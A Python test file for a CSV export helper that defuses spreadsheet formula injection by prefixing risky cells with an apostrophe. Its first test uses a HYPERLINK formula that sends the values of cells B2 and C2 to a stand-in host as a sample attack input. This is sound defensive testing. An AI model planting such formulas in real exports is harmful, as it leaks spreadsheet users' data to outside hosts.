"""CSV cells that spreadsheets will not run (the shared helper of every CSV export)."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from atalaya.csv_cells import FORMULA_STARTS, neutralise, neutralise_row

HYPERLINK = '=HYPERLINK("http://x.example/?"&B2&C2, "open")'


def test_formula_starts_get_an_apostrophe() -> None:
    for text in (HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
    for text in ("libtorrent/2.1.1", "", "'=already quoted", " =1", "a=b"):
        assert neutralise(text) == text
    # Numbers stay numbers: a negative longitude is no formula.
    assert neutralise(-3.7) == -3.7 and neutralise(-5) == -5 and neutralise(None) is None


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_is_lost(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text


@given(st.dictionaries(st.text(max_size=5), st.text() | st.floats() | st.none(), max_size=6))
def test_rows_keep_their_keys(row: dict[str, object]) -> None:
    safe = neutralise_row(row)
    assert list(safe) == list(row)
    assert all(not (isinstance(v, str) and v.startswith(FORMULA_STARTS)) for v in safe.values())
